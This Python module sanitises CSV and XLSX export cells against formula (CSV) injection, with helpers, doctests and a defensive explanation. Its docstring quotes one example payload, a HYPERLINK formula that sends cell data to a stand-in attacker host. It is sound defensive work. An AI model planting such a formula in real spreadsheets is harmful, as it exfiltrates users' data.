"""The one rule every CSV and XLSX export applies to its cells: text never runs as a formula.

A spreadsheet runs a cell as a formula when its text begins with ``=``, ``+``, ``-`` or ``@``
(and some also after a leading tab or carriage return): a trust, director or quote named
``=HYPERLINK("https://attacker.example/?"&A1, "click")`` would otherwise become a live link
that sends the sheet's data away (CSV injection, OWASP). The rule, for CSV and XLSX alike:

* **text** beginning with one of those characters gets a leading apostrophe (``'=HYPERLINK(...``),
  the mark spreadsheets themselves use for "this is text"; nothing else in it changes;
* **numbers stay numbers**: an ``int`` or ``float`` is written as itself, so ``-3.2`` in a numeric
  column is still a number a spreadsheet can sum; text that *is* a plain number (``"-3.2"``) is
  left alone too;
* empty values are empty; dates and booleans are written as they were before.

In a workbook every text cell is also stored as a string cell (``data_type = "s"``), so no cell
of an exported workbook is ever a formula, whatever its text. This module imports only the
standard library: services that write files (watch list, packs) and the edges (CLI, web) all use
it. See docs/exports.md.

>>> escape_text("=1+2"), escape_text("-3.5"), escape_text("Good")
("'=1+2", '-3.5', 'Good')
>>> csv_cell(-2), csv_cell(None), csv_cell("@SUM(A1)")
(-2, '', "'@SUM(A1)")
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

__all__ = [
    "FORMULA_TRIGGERS",
    "append_row",
    "csv_cell",
    "csv_row",
    "escape_text",
    "is_live_formula",
    "xlsx_cell",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def escape_text(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet would run it as a formula."""
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def csv_cell(value: Any) -> Any:
    """A value for ``csv.writer``: None as empty, numbers and booleans as given, text escaped."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    return escape_text(value if isinstance(value, str) else str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    """Every value of a row through :func:`csv_cell`."""
    return [csv_cell(v) for v in values]


def xlsx_cell(value: Any) -> Any:
    """A value for an openpyxl cell: numbers, booleans, dates and None as given, text escaped."""
    if value is None or isinstance(value, bool | int | float | date | datetime):
        return value
    return escape_text(value if isinstance(value, str) else str(value))


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every text cell escaped and stored as text."""
    sheet.append([xlsx_cell(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def is_live_formula(value: Any) -> bool:
    """Whether an exported cell's value would run as a formula (used by the tests)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not (_PLAIN_NUMBER.match(value))
    )
